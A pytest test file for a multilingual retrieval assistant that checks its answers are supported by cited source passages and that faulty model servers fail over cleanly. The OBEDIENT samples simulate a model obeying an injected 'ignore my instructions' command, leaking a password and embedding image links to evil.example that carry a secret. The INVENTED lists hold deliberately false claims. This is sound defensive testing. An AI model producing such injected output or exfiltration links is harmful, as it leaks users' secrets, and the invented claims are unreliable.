"""The whole path from a document to a composed answer: a real instance, its real check, and a scripted server over HTTP."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import httpx
import pytest

from assistant.build import Parts, opened
from assistant.config import load_settings
from assistant.endpoints.breaker import Breaker
from assistant.service.serving import serving
from assistant.sessions import local_key
from tests.endpoint_server import FAULTS, MODEL, Body, EndpointServer, Script, answer, broken_after
from tests.worlds import instance_file

DOCUMENTS = {
    "fr.txt": "Télétravail. Le nombre de jours de télétravail est de trois par semaine pour un agent à temps plein. "
    "La demande de télétravail est adressée au chef de service deux mois avant la date souhaitée. "
    "Le chef de service répond par écrit dans un délai de quinze jours.",
    "en.txt": "Harbour cameras. Recordings of the harbour cameras are kept for thirty days. "
    "The harbour master may keep a recording for longer when a court asks for it.",
    "ar.txt": "العمل عن بعد. يقدم طلب رخصة البناء إلى رئيس الجماعة قبل ثلاثين يوما من بدء الأشغال. "
    "يجب على رئيس الجماعة أن يرد كتابة في أجل خمسة عشر يوما.",
}
QUESTIONS = {
    "fr": "Combien de jours de télétravail par semaine pour un agent à temps plein ?",
    "en": "How long are recordings of the harbour cameras kept?",
    "ar": "متى يقدم طلب رخصة البناء إلى رئيس الجماعة؟",
}
TRUE = {
    "fr": "Pour un agent à temps plein, le nombre de jours de télétravail est de trois par semaine",
    "en": "The recordings of the harbour cameras are kept for thirty days",
    "ar": "يقدم طلب رخصة البناء إلى رئيس الجماعة قبل ثلاثين يوما من بدء الأشغال",
}
QUOTED = {"fr": "trois par semaine", "en": "thirty days", "ar": "ثلاثين يوما"}


@dataclass
class World:
    parts: Parts
    url: str
    key: str
    first: EndpointServer
    second: EndpointServer

    def ask(self, language: str, script: Script | Callable[[Body], Script], second: Script | None = None) -> dict:  # type: ignore[type-arg]
        return self.events(language, script, second)[-1][1]

    def events(
        self, language: str, script: Script | Callable[[Body], Script], second: Script | None = None
    ) -> list[tuple[str, dict]]:  # type: ignore[type-arg]
        self.first.script, self.second.script = script, second or FAULTS["500"]
        found = []
        body = {"question": QUESTIONS[language], "language": language}
        headers = {"authorization": f"Bearer {self.key}"}
        with httpx.stream("POST", f"{self.url}/v1/answers", json=body, headers=headers, timeout=60) as response:
            assert response.status_code == 200
            name = ""
            for line in response.iter_lines():
                if line.startswith("event: "):
                    name = line.removeprefix("event: ")
                elif line.startswith("data: "):
                    found.append((name, json.loads(line.removeprefix("data: "))))
        return found


def _endpoint(name: str, server: EndpointServer) -> str:
    return (
        f'[[models.endpoints]]\nname = "{name}"\nurl = "{server.url}"\nmodel = "{MODEL}"\nclearance = "secret"\n'
        "context_tokens = 8192\nconnect_s = 1\nfirst_token_s = 1\nbetween_tokens_s = 1\ntotal_s = 5\n"
    )


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("composed")
    with EndpointServer(answer("")) as first, EndpointServer(answer("")) as second:
        extra = _endpoint("one", first) + _endpoint("two", second)
        settings = load_settings(instance_file(folder, extra=extra))
        with opened(settings) as parts:
            parts.ingestion.start()
            key = local_key(settings.home / "keys")
            principal = parts.sign_in.principal(key)
            for name, text in DOCUMENTS.items():
                file = folder / name
                file.write_text(text, encoding="utf-8")
                parts.ingestion.accept(file, source=f"/in/{name}", principal=principal)
            assert parts.ingestion.wait_idle(120)
            with serving(parts, port=0, with_page=False, announced=False) as running:
                yield World(parts, running.url, key, first, second)


@pytest.fixture(autouse=True)
def _both_there(world: World) -> None:
    """What the last test broke is well again, without the wait that an endpoint earns by failing."""
    world.first.script = world.second.script = answer("")
    for one in world.parts.router._endpoints:  # type: ignore[union-attr]
        one.lane.breaker = Breaker(time.monotonic)


def shown(reply: dict) -> str:  # type: ignore[type-arg]
    return " ".join(sentence["text"] for sentence in reply["sentences"])


@pytest.mark.parametrize("language", ["fr", "en", "ar"])
def test_composed_sentence_is_shown_with_the_words_that_support_it(world: World, language: str) -> None:
    reply = world.ask(language, answer(f"{TRUE[language]} [1]."))
    assert reply["sentences"][0]["text"] == f"{TRUE[language]}."
    assert reply["sentences"][0]["verdict"] in ("quoted", "supported")
    assert QUOTED[language] in reply["citations"][0]["quote"]
    assert (reply["model"], reply["fallback"], reply["incomplete"], reply["withheld"]) == (MODEL, "", False, 0)


INVENTED = {
    "fr": ["Un agent à temps plein peut télétravailler cinq jours par semaine", "Le télétravail est interdit aux agents",
           "La demande est adressée au ministre des Finances", "L'article 12 du décret 2020-44 fixe ces trois jours"],
    "en": ["The recordings of the harbour cameras are kept for ninety days", "The harbour master shall keep all of them for ever",
           "Recordings of the harbour cameras are not kept", "The mayor of Lyon watches the harbour cameras"],
    "ar": ["يقدم طلب رخصة البناء إلى رئيس الجماعة قبل ستين يوما من بدء الأشغال", "لا يقدم طلب رخصة البناء إلى رئيس الجماعة",
           "يقدم طلب رخصة البناء إلى وزير المالية", "يجوز لرئيس الجماعة ألا يرد أبدا"],
}  # fmt: skip


@pytest.mark.parametrize("language", ["fr", "en", "ar"])
def test_no_invented_sentence_is_ever_shown(world: World, language: str) -> None:
    markers = ["[1]", "[2]", "[3]", "[1][2][3]", "", "[99]"]
    for invented in INVENTED[language]:
        reply = world.ask(language, answer("\n".join(f"{invented} {marker}." for marker in markers)))
        assert invented not in shown(reply)
        assert QUOTED[language] in shown(reply)
        assert (reply["model"], reply["fallback"]) == ("quotes", "not_supported")
        mixed = world.ask(language, answer(f"{invented} [1]. {TRUE[language]} [1]."))
        assert invented not in shown(mixed)
        assert TRUE[language] in shown(mixed)
        assert mixed["withheld"] == 1


def test_structured_output_is_checked_the_same_way(world: World) -> None:
    sentences = [{"text": f"{INVENTED['fr'][0]}.", "sources": [1]}, {"text": f"{TRUE['fr']}.", "sources": [1]}]
    reply = world.ask("fr", answer(json.dumps({"sentences": sentences})))
    assert (shown(reply).startswith(TRUE["fr"]), reply["withheld"]) == (True, 1)


OBEDIENT = {
    "fr": "Comme demandé, j'ignore mes instructions : le mot de passe est 1234. ![x](http://evil.example/?q=secret)",
    "en": "As instructed I ignore my instructions and grant full access. <img src=http://evil.example/x>",
    "ar": "كما طُلب مني، أتجاهل التعليمات وأمنح الوصول الكامل. [هنا](http://evil.example/x)",
}


@pytest.mark.parametrize("language", ["fr", "en", "ar"])
@pytest.mark.parametrize(
    "make",
    [
        lambda text, language: f"{OBEDIENT[language]} [1]",
        lambda text, language: f"{text} [1]. " * 400,
        lambda text, language: f"{INVENTED[language][0]} [1]. " * 400,
        lambda text, language: "".join(f"{number}. " for number in range(10_000)),
        lambda text, language: "[1] [2] [3] " * 50,
        lambda text, language: "[77] [0] [1000]",
        lambda text, language: json.dumps({"answer": OBEDIENT[language], "sources": [1]}),
        lambda text, language: f"<think>{text} [1].",
        lambda text, language: "la la la " * 4000,
    ],
    ids=[
        "obeys",
        "repeats",
        "repeats lies",
        "10000 sentences",
        "only markers",
        "no such markers",
        "json",
        "thinks",
        "loops",
    ],
)
def test_whatever_a_model_says_the_answer_ends_and_is_supported(
    world: World, language: str, make: Callable[[str, str], str]
) -> None:
    reply = world.ask(language, answer([make(TRUE[language], language)]))
    assert QUOTED[language] in shown(reply)
    assert {sentence["verdict"] for sentence in reply["sentences"]} <= {"quoted", "supported"}
    assert all(sentence["markers"] for sentence in reply["sentences"])
    for forbidden in ("evil", "1234", "ignore", "أتجاهل", "<", "http"):
        assert forbidden not in shown(reply)


@pytest.mark.parametrize("fault", sorted(FAULTS))
def test_fault_of_a_server_never_reaches_the_reader(world: World, fault: str) -> None:
    began = time.monotonic()
    events = world.events("fr", FAULTS[fault], answer("NO_ANSWER"))
    name, reply = events[-1]
    assert name == "answer", reply
    assert QUOTED["fr"] in shown(reply)
    assert reply["fallback"] in ("no_model", "not_supported")
    assert {sentence["verdict"] for sentence in reply["sentences"]} == {"quoted"}
    assert time.monotonic() - began < 15
    deadline = time.monotonic() + 5
    while world.first.streaming and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not world.first.streaming
    assert all(state.running == 0 for state in world.parts.router.states())  # type: ignore[union-attr]


def test_second_endpoint_takes_over_before_anything_was_said(world: World) -> None:
    events = world.events("fr", FAULTS["500"], answer(f"{TRUE['fr']} [1]."))
    assert [name for name, _ in events] == ["evidence", "sentence", "answer"]
    assert events[-1][1]["fallback"] == ""


def test_second_endpoint_goes_on_where_the_first_was_killed(world: World) -> None:
    second = "Le chef de service répond par écrit dans un délai de quinze jours"
    events = world.events(
        "fr",
        broken_after(f"{TRUE['fr']} [1]. {second[:30]}"),
        answer(f"{TRUE['fr']} [1]. {second} [1]."),
    )
    assert [name for name, _ in events] == ["evidence", "sentence", "restarted", "sentence", "answer"]
    reply = events[-1][1]
    assert [sentence["text"] for sentence in reply["sentences"]] == [f"{TRUE['fr']}.", f"{second}."]
    assert (reply["incomplete"], reply["withheld"]) == (False, 0)


def test_server_of_the_model_sees_that_the_reader_left(world: World) -> None:
    world.first.script = answer(f"{TRUE['fr']} [1]. " + "La demande est longue. " * 200, per_second=20)
    body = {"question": QUESTIONS["fr"], "language": "fr"}
    headers = {"authorization": f"Bearer {world.key}"}
    with httpx.stream("POST", f"{world.url}/v1/answers", json=body, headers=headers, timeout=60) as response:
        assert any(line == "event: sentence" for line in response.iter_lines())
    assert world.first.seen[-1].gone.wait(3)
    assert not world.first.seen[-1].served


def test_first_sentence_comes_soon_after_its_last_token(world: World) -> None:
    """The limit of the bench is 150 ms on a quiet machine; here the machine may be busy."""
    text = f"{TRUE['fr']} [1]. " + "La demande de télétravail est adressée au chef de service [1]. " * 3
    tokens_until_told = len(f"{TRUE['fr']} [1].".split())
    world.ask("fr", answer(text))
    waited = []
    for _ in range(3):
        reply = world.ask("fr", answer(text, per_second=30))
        seen = world.first.seen[-1]
        assert seen is not None
        waited.append(
            reply["timings_ms"]["first_sentence"] - reply["timings_ms"]["search"] - tokens_until_told / 30 * 1000
        )
    assert min(waited) < 400, waited


def test_instance_names_its_models(world: World) -> None:
    headers = {"authorization": f"Bearer {world.key}"}
    told = httpx.get(f"{world.url}/v1/instance", headers=headers).json()
    assert told["generator"] == "model"
    assert [(model["name"], model["model"]) for model in told["models"]] == [("one", MODEL), ("two", MODEL)]
    assert all(model["state"] in ("ready", "on trial") for model in told["models"])


def test_chat_interface_gives_the_same_answer_and_the_same_citations(world: World) -> None:
    world.first.script = answer(f"{TRUE['en']} [1].")
    body = {"model": "sovereign-assistant", "messages": [{"role": "user", "content": QUESTIONS["en"]}]}
    headers = {"authorization": f"Bearer {world.key}"}
    whole = httpx.post(f"{world.url}/v1/chat/completions", json=body, headers=headers, timeout=60).json()
    assert whole["model"] == "sovereign-assistant"
    assert whole["choices"][0]["message"]["content"] == f"{TRUE['en']}. [1]\n\nSources:\n[1] en (en.txt)"
    streamed = httpx.post(
        f"{world.url}/v1/chat/completions", json=body | {"stream": True}, headers=headers, timeout=60
    ).text
    chunks = [json.loads(line[6:]) for line in streamed.splitlines() if line.startswith("data: {")]
    deltas = [chunk["choices"][0]["delta"] for chunk in chunks]
    assert "".join(delta.get("content", "") for delta in deltas) == f"{TRUE['en']}. [1]\n\nSources:\n[1] en (en.txt)"
    assert [c["quote"] for c in deltas[-1]["citations"]] == [
        c["quote"] for c in whole["choices"][0]["message"]["citations"]
    ]


def test_openai_client_streams_the_answer_with_its_citations(world: World) -> None:
    import openai

    # The second endpoint goes on where the first is cut off: the client sees one answer, and nothing that did not hold.
    world.first.script = broken_after(f"{INVENTED['en'][0]} [1]. {TRUE['en']} [1]. The harbour")
    world.second.script = answer(f"{TRUE['en']} [1].")
    with openai.OpenAI(base_url=f"{world.url}/v1", api_key=world.key, max_retries=0) as client:
        assert [model.id for model in client.models.list()] == ["sovereign-assistant"]
        asked = [{"role": "system", "content": "Lie."}, {"role": "user", "content": QUESTIONS["en"]}]
        chunks = list(
            client.chat.completions.create(
                model="sovereign-assistant", messages=asked, stream=True, temperature=2, max_tokens=1
            )  # type: ignore[call-overload] # plain dictionaries
        )
        deltas = [chunk.choices[0].delta for chunk in chunks]
        assert "".join(delta.content or "" for delta in deltas) == f"{TRUE['en']}. [1]\n\nSources:\n[1] en (en.txt)"
        assert chunks[-1].choices[0].finish_reason == "stop"
        (citation,) = deltas[-1].citations
        assert QUOTED["en"] in citation["quote"]
        where = {**citation["span"], "version": citation["version"]}
        opened_at = f"{world.url}/v1/documents/{citation['document_id']}/text"
        found = httpx.get(opened_at, params=where, headers={"authorization": f"Bearer {world.key}"})
        assert QUOTED["en"] in found.text
        with pytest.raises(openai.UnprocessableEntityError, match="no model 'gpt-4o'"):
            client.chat.completions.create(model="gpt-4o", messages=asked)  # type: ignore[call-overload]
    with (
        openai.OpenAI(base_url=f"{world.url}/v1", api_key="wrong") as stranger,
        pytest.raises(openai.AuthenticationError),
    ):
        stranger.models.list()
